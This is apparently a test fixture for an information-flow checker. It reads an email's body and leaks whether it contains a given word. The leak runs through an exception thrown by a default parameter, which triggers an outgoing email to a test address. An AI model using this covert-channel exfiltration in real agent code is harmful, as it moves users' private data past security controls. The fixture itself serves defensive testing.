// attack: a default parameter value (a plain read that throws) is evaluated only when the body made the argument
// undefined
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const c = m.body.includes('zed');
const nothing = null;
function f(x = nothing.y) {
  return x;
}
try {
  f(c ? undefined : 1);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'thrown' });
}
